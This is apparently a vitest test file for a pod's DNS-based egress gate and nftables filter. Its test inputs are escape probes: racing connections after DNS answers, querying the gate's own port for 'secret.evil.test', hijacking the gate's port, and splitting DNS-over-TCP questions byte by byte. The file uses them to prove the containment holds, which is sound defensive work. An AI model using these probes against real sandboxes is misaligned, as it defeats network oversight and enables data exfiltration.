/** B18: between a question, its answer and the packet filter's sets; and the gate's own port. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ALLOWED, createAttackScene, findObstacle, toPython } from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const NAMES = Array.from({ length: 40 }, (_, index) => `r${index}.race.test`);
const HAMMERED = "203.0.113.50";
const findGate =
  "GATE=$(nft list ruleset | sed -n 's/.*nfproto ipv4.*redirect to :\\([0-9]*\\).*/\\1/p' | head -1)";
const askGate = 'dig +tries=1 +time=10 -p "$GATE" @127.0.0.1';

const ATTACKS = {
  // No time between an answer and the connection; ends with how many of them failed.
  "at once": toPython(`
import socket, sys
failed = 0
for name in ${JSON.stringify(NAMES)}:
    try:
        socket.create_connection((socket.gethostbyname(name), 443), 3).close()
    except OSError:
        failed += 1
sys.exit(failed)`),
  // While sets are written to; ends with how often it got through.
  hammering: toPython(`
import socket, subprocess, sys, threading
through = 0
until = threading.Event()
def hammer():
    global through
    while not until.is_set():
        with socket.socket() as each:
            each.settimeout(1)
            through += each.connect_ex(("${HAMMERED}", 443)) == 0
threads = [threading.Thread(target=hammer) for _ in range(2)]
for each in threads: each.start()
for name in ("${ALLOWED.name}", "again.race.test", "once.race.test"):
    subprocess.run(["dig", "+short", "+tries=1", name], stdout=subprocess.DEVNULL)
until.set()
for each in threads: each.join()
sys.exit(through)`),
  "at the gate's port": `${findGate}; ${askGate} secret.evil.test; ${askGate} +tcp secret.evil.test; ${askGate} +short ${ALLOWED.name}`,
  "in the gate's place": toPython(`
import re, socket, subprocess, sys
rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
port = int(re.search(r"nfproto ipv4.*redirect to :(\\d+)", rules).group(1))
taken = 0
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    for ip in ("127.0.0.1", "0.0.0.0"):
        with socket.socket(socket.AF_INET, kind) as each:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            each.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                each.bind((ip, port)); each.listen() if kind == socket.SOCK_STREAM else None; taken += 1
            except OSError: pass
sys.exit(taken)`),
  "byte by byte": toPython(`
import socket, struct
def question(name, ident):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    message = struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
    return struct.pack("!H", len(message)) + message
sender = socket.create_connection(("1.1.1.1", 53), 3)
for byte in question("${ALLOWED.name}", 1) + question("split.evil.test", 2) + question("${ALLOWED.name}", 3):
    sender.send(bytes([byte]))
stream = sender.makefile("rb")
for _ in range(3):
    answer = stream.read(struct.unpack("!H", stream.read(2))[0])
    print(answer[1], answer[3] & 15)`),
} as const;

const obstacle = findObstacle();
describe.skipIf(obstacle !== "")(`between question and connection${obstacle}`, () => {
  const stack = new AsyncDisposableStack();
  let volley: Volley;
  beforeAll(async () => {
    const { internet, pod } = stack.use(await createAttackScene());
    await internet.dns.add(
      ...NAMES.map(
        (name, index) => ({ name, type: "A", data: `198.51.100.${100 + index}` }) as const,
      ),
    );
    const policy = toPolicy({ allow: [ALLOWED.name, "*.race.test"], "network-admin": "keep" });
    volley = await fireAll(pod, ATTACKS, { policy });
  });
  afterAll(() => stack.disposeAsync());

  test("whoever connects as soon as there is an answer is let through", () => {
    expect(volley.shot("at once").stderr).toBe("");
    expect(volley.shot("at once").status).toBe(0);
  });

  test("whoever tries all the while gets through to nothing else", () => {
    const shot = volley.shot("hammering");

    expect(shot.status).toBe(0);
    expect(shot.blocked).toMatchObject([{ text: `tcp ${HAMMERED} 443`, rule: "default" }]);
  });

  test("whoever asks the gate by its own port is judged as well", () => {
    const { stdout } = volley.shot("at the gate's port");

    expect(stdout.match(/status: NXDOMAIN/g)).toHaveLength(2);
    expect(stdout).toContain(`${ALLOWED.ipv4}\n`);
    const asked = volley.run.report.dnsQueries.filter(({ name }) => name === "secret.evil.test");
    expect(asked.map(({ verdict }) => verdict)).toEqual(asked.map(() => "blocked"));
    expect(asked.length).toBeGreaterThan(0);
  });

  test("nobody else can listen where the gate does", () => {
    expect(volley.shot("in the gate's place").stderr).toBe("");
    expect(volley.shot("in the gate's place").status).toBe(0);
  });

  test("questions over TCP are judged each, however they are cut", () => {
    const answers = volley.shot("byte by byte").stdout.trim().split("\n").toSorted();

    expect(answers).toEqual(["1 0", "2 3", "3 0"]);
  });

  test("nothing has left the pod but to allowed names", () => {
    const { run } = volley;

    expect(run.status).toBe(0);
    expect(run.escaped.every(({ destination: { ip } }) => ip.startsWith("198.51.100."))).toBe(true);
    const asked = run.questions.map(({ name }) => name);
    expect(asked.filter((name) => name.endsWith("evil.test"))).toEqual([]);
  });
});
